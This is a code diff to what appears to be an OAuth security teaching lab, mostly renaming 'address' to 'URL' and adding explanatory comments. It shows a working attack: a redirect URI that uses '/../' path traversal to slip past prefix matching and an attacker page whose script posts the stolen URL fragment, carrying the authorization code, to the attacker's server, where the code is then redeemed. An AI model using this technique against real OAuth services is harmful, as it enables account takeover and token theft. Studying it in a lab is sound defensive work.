@@ -10,7 +10,7 @@ from labs.steps import step
 SCRIPT = """
 const form = document.createElement("form");
 form.method = "post";
-form.action = "/home";  // an address without the fragment
+form.action = "/home";  // a URL without the fragment
 for (const [name, value] of new URLSearchParams(location.hash.slice(1))) {
   form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
 }
@@ -20,7 +20,7 @@ if (location.hash) form.submit();
 
 
 def page(world: Any) -> Response:
-    """Return a page that sends the fragment of its own address home."""
+    """Return a page that sends the fragment of its own URL home."""
     answer = Response(render_template("pages/nothing.html", script=SCRIPT))
     answer.headers["Content-Security-Policy"] = "default-src 'none'; style-src 'self'; script-src 'unsafe-inline'"
     return answer
@@ -30,10 +30,11 @@ PAGES = {"/door": page}
 
 
 def link_through(stage: Stage, client_id: str, **changes: str) -> str:
-    """Return a request whose return address begins with the app's, and leaves through its door."""
-    address = f"{stage.callback(client_id)}/../leave?to={stage.here.attacker}/door"
-    stage.kept["redirect_uri"] = address
-    return stage.link(client_id, address, response_mode="fragment", **changes)
+    """Return a request whose redirect URI begins with the app's, and leaves through its door."""
+    # As text it begins with the registered one; browsers resolve `..` before they ask, and so ask for `/leave`.
+    redirect_uri = f"{stage.callback(client_id)}/../leave?to={stage.here.attacker}/door"
+    stage.kept["redirect_uri"] = redirect_uri
+    return stage.link(client_id, redirect_uri, response_mode="fragment", **changes)
 
 
 @step("attacker")
@@ -44,7 +45,7 @@ def makes_a_link(stage: Stage) -> None:
 
 @step("Alice")
 def alice_follows_the_link(stage: Stage) -> None:
-    """Follow the link, sign in as alice, and allow. Look at the address that you end at."""
+    """Follow the link, sign in as alice, and allow. Look at the URL that you end at."""
     stage.lead_alice().agree().rest()
 
 
@@ -75,5 +76,6 @@ def tries_the_code_of_budget(stage: Stage) -> None:
     code = stage.collection.newest("code")
     if not code:
         raise Stuck("no code of Budget's came to the attacker")
+    # It fails, for Budget proves who it is by a secret. Balance is public: there the code alone was enough.
     stage.attacker.redeem(code, client_id="budget", redirect_uri=stage.kept["redirect_uri"])
     stage.mallory_comes_back(stage.callback("budget"), code)
